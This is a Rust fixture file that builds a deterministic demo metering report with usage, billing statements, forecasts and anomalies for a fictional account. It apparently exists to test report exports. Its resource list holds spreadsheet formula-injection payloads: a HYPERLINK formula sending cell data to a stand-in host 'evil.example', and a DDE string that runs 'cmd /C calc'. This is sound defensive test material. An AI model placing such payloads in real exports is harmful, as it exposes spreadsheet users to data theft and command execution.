//! Reports of a user that does not exist, the same at every run.

use chrono::{DateTime, TimeDelta, Utc};
use chrono_tz::Tz;
use metering_domain::{
    aggregate::{Granularity, Partial, Sample},
    anomaly::{AnomalyStatus, AnomalyType, Finding, Method, Reason},
    forecast::usage::{Question, forecast_usage},
    metric::{Kind, Metric, built_in},
    period::{Period, PeriodLength, Schedule, parse_instant},
    plan,
    quota::{Terms, Usage, standing},
    report::{
        AccountInput, AnomalyLine, BillingPeriod, Input, Measured, MetricInput, Report, ReportType, ResourceUse,
        StatementBlock, buckets, covered,
    },
    statement::Line,
};
use rust_decimal::Decimal;

/// A resource that a spreadsheet would take for a formula.
pub const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

/// What to make a report of.
#[derive(Clone, Debug)]
pub struct Demo {
    pub report_type: ReportType,
    pub days: i64,
    pub metrics: usize,
    pub users: Vec<String>,
    pub granularity: Granularity,
    pub is_used: bool,
}

impl Demo {
    /// Three months of all metrics.
    pub fn of(report_type: ReportType) -> Self {
        Self {
            report_type,
            days: 92,
            metrics: built_in().len(),
            users: vec!["zoë.müller@example.com".to_owned()],
            granularity: Granularity::Daily,
            is_used: true,
        }
    }

    pub fn report(&self) -> Report {
        let zone = Tz::Europe__Berlin;
        let now = parse_instant("2026-11-18T09:30:00Z").expect("an instant");
        let today = Schedule::calendar(zone, PeriodLength::Day, now)
            .period_at(now)
            .expect("a day");
        let period = Period {
            start: Schedule::calendar(zone, PeriodLength::Day, now)
                .boundary(1 - self.days)
                .expect("a day"),
            end: today.end,
        };
        let covered = covered(period, self.granularity, zone).expect("not empty");
        let moment = Moment { zone, now, covered };
        let accounts = self.users.iter().map(|user| self.account(user, &moment)).collect();
        let input = Input {
            report_type: self.report_type,
            period,
            granularity: self.granularity,
            zone,
            generated_at: now,
            filters: Vec::new(),
            compare_to_previous: true,
            accounts,
        };
        Report::new(input).expect("a report")
    }

    fn account(&self, user: &str, moment: &Moment) -> AccountInput {
        let metrics = built_in().iter().take(self.metrics);
        let metrics: Vec<MetricInput> = metrics.map(|metric| self.metric(metric, moment)).collect();
        AccountInput {
            user_id: user.to_owned(),
            subscription_id: "sub_8f14e45fceea167a5a36dedd4bea2543".to_owned(),
            plan: Some("Basic".to_owned()),
            currency: "EUR".to_owned(),
            anomalies: if self.is_used { anomalies(moment) } else { Vec::new() },
            statements: if self.is_used {
                self.statements(moment)
            } else {
                Vec::new()
            },
            metrics,
            notes: Vec::new(),
        }
    }

    fn metric(&self, metric: &Metric, moment: &Moment) -> MetricInput {
        let filled: Vec<(Period, Partial)> = if self.is_used {
            buckets(moment.covered, self.granularity, moment.zone)
                .take_while(|bucket| bucket.start <= moment.now)
                .filter_map(|bucket| happened(metric, bucket, self.granularity))
                .collect()
        } else {
            Vec::new()
        };
        let values: Vec<(Period, Decimal)> = filled.iter().map(|(period, one)| (*period, one.total)).collect();
        let mut used: Decimal = values.iter().rev().take(18).map(|(_, value)| *value).sum();
        if metric.kind != Kind::Sum {
            used = level(metric.kind, &values)
                .last()
                .map(|(_, value)| *value)
                .unwrap_or_default();
        }
        let terms = terms(metric);
        let periods: Vec<(Period, Terms)> = moment
            .months(-13..3)
            .into_iter()
            .map(|month| (month, terms.clone()))
            .collect();
        let usage = Usage {
            used,
            held: Decimal::ZERO,
            peak: (metric.kind != Kind::Sum).then_some(used),
        };
        let running: Vec<(Period, Terms)> = periods
            .iter()
            .filter(|(month, _)| month.end > moment.now)
            .cloned()
            .collect();
        let forecast = (self.report_type == ReportType::Forecast).then(|| {
            let days: Vec<(Period, Decimal)> = level(metric.kind, &values);
            let question = Question {
                kind: metric.kind,
                days: &days,
                zone: moment.zone,
                now: moment.now,
                used,
                peak: usage.peak,
                periods: &running,
                horizon: 30,
                model: None,
            };
            forecast_usage(&question).expect("on the calendar")
        });
        let billing = |(period, terms): &(Period, Terms)| BillingPeriod {
            period: *period,
            limit: terms.quota.quota_limit,
        };
        MetricInput {
            metric_type: metric.metric_type.clone(),
            unit: metric.unit.clone(),
            kind: metric.kind,
            quota: Some((moment.months(0..1)[0], standing(metric.kind, &terms, &usage))),
            measured: match metric.kind {
                Kind::Lease => Measured::Peaks(values),
                Kind::Sum | Kind::Gauge => Measured::Events {
                    carried_in: Decimal::ONE,
                    buckets: filled,
                },
            },
            previous: self.is_used.then(|| Decimal::new(123_456, 2)),
            billing: periods.iter().map(billing).collect(),
            used_before: Decimal::from(7),
            forecast,
            resources: if self.is_used { resources() } else { Vec::new() },
        }
    }

    /// The last two months, closed, and the running one.
    fn statements(&self, moment: &Moment) -> Vec<StatementBlock> {
        let months = moment.months(-2..1);
        let block = |(at, month): (usize, &Period)| {
            let line = |(index, metric): (usize, &Metric)| {
                let used = Decimal::from(700 + 211 * index + 37 * at) + Decimal::new(25, 2);
                Line::of(
                    &metric.metric_type,
                    metric.kind,
                    &metric.unit,
                    &terms(metric),
                    used,
                    Some(used),
                )
            };
            let metrics = built_in().iter().take(self.metrics).enumerate();
            StatementBlock {
                id: (at < 2).then(|| format!("stm_{at}23456789abcdef0123456789abcdef")),
                period: *month,
                plan: Some("Basic".to_owned()),
                lines: metrics.map(line).collect(),
                total_cost: Decimal::ZERO,
            }
        };
        months.iter().enumerate().map(block).collect()
    }
}

struct Moment {
    zone: Tz,
    now: DateTime<Utc>,
    covered: Period,
}

impl Moment {
    /// Calendar months of the zone, counted from the running one.
    fn months(&self, range: std::ops::Range<i64>) -> Vec<Period> {
        let schedule = Schedule::calendar(self.zone, PeriodLength::Month, self.now);
        let boundary = |index| schedule.boundary(index).expect("on the calendar");
        range
            .map(|index| Period {
                start: boundary(index),
                end: boundary(index + 1),
            })
            .collect()
    }
}

fn terms(metric: &Metric) -> Terms {
    Terms::of_plan(&plan::built_in()[0], &metric.metric_type, None)
}

/// Levels from their changes.
fn level(kind: Kind, values: &[(Period, Decimal)]) -> Vec<(Period, Decimal)> {
    let mut sum = Decimal::ONE;
    let of = |(period, value): &(Period, Decimal)| {
        sum += *value;
        (*period, if kind == Kind::Gauge { sum } else { *value })
    };
    values.iter().map(of).collect()
}

/// Something like noise, 0 to 99.
fn noise(seed: i64) -> i64 {
    (seed
        .wrapping_mul(6_364_136_223_846_793_005)
        .wrapping_add(1_442_695_040_888_963_407)
        >> 33)
        .rem_euclid(100)
}

/// Busy on working days; nothing every eleventh day.
fn happened(metric: &Metric, bucket: Period, granularity: Granularity) -> Option<(Period, Partial)> {
    let day = bucket.start.timestamp() / 86_400;
    let seed = bucket.start.timestamp() / 3_600 + i64::try_from(metric.unit.len()).unwrap_or(0) * 977;
    if granularity == Granularity::Daily && day % 11 == 3 {
        return None;
    }
    let busy = if day % 7 < 5 { 3 } else { 1 };
    let spike = if day % 60 == 17 { 4 } else { 1 };
    let value = match metric.kind {
        Kind::Sum => Decimal::new((20 + noise(seed)) * busy * spike * 25, 2),
        Kind::Gauge => Decimal::new(noise(seed) % 9, 2),
        Kind::Lease => Decimal::from(1 + noise(seed) % 4),
    };
    let sample = |part: i64| Sample {
        at: bucket.start + TimeDelta::seconds(60 * part),
        value: if part == 0 { value } else { Decimal::ZERO },
        error: noise(seed + part) < 5,
        response_time_ms: Some(u32::try_from(40 + noise(seed + part)).unwrap_or(40)),
    };
    let mut samples: Vec<Sample> = (0..4).map(sample).collect();
    Some((bucket, Partial::of(metric.kind, &mut samples, bucket)))
}

fn resources() -> Vec<ResourceUse> {
    let one = |resource_id: Option<&str>, total: i64| ResourceUse {
        resource_id: resource_id.map(str::to_owned),
        event_count: 3,
        total: Decimal::new(total, 1),
    };
    vec![
        one(Some(FORMULA), 1_234_567),
        one(Some("@SUM(1+1)*cmd|' /C calc'!A0"), 99),
        one(Some(&"folder/with/a/very/long/name/".repeat(8)), 55),
        one(Some("invoice-2026-11.pdf"), 500),
        one(None, 25),
    ]
}

fn anomalies(moment: &Moment) -> Vec<AnomalyLine> {
    let hours = |ago: i64, long: i64| Period {
        start: moment.now - TimeDelta::minutes(30) - TimeDelta::hours(ago),
        end: moment.now - TimeDelta::minutes(30) - TimeDelta::hours(ago - long),
    };
    let one =
        |id: u32, anomaly_type, method, window, observed: i64, risk: u8, reasons: &[(&str, &str, u8)]| AnomalyLine {
            id: format!("ano_{id:032x}"),
            metric_type: "api_calls".to_owned(),
            unit: "calls".to_owned(),
            finding: Finding {
                anomaly_type,
                method,
                window,
                is_daily: false,
                observed: Decimal::from(observed),
                expected: Decimal::new(100_333_333_333, 9),
                expected_lower: Decimal::from(40),
                expected_upper: Decimal::from(160),
                confidence: Decimal::new(9_731, 4),
                risk,
                reasons: reasons
                    .iter()
                    .map(|(code, detail, points)| Reason {
                        code: (*code).to_owned(),
                        detail: (*detail).to_owned(),
                        points: *points,
                    })
                    .collect(),
            },
            status: if risk > 75 {
                AnomalyStatus::Investigating
            } else {
                AnomalyStatus::Detected
            },
            detected_at: moment.now,
            note: (risk > 75).then(|| "=1+1 was asked about this; the customer ran a migration.".to_owned()),
        };
    let spike = [
        ("z_score", "z = 9.05 against the 168 hours before", 70),
        ("agreement", "velocity finds it, too: 18 times the hour before", 12),
    ];
    vec![
        one(
            1,
            AnomalyType::Spike,
            Method::Statistical,
            hours(30, 2),
            1_861,
            82,
            &spike,
        ),
        one(
            2,
            AnomalyType::Drop,
            Method::Statistical,
            hours(200, 1),
            12,
            40,
            &[("robust", "far below the median", 40)],
        ),
        one(
            3,
            AnomalyType::VelocitySpike,
            Method::Velocity,
            hours(500, 1),
            600,
            55,
            &[("growth", "6 times", 55)],
        ),
    ]
}
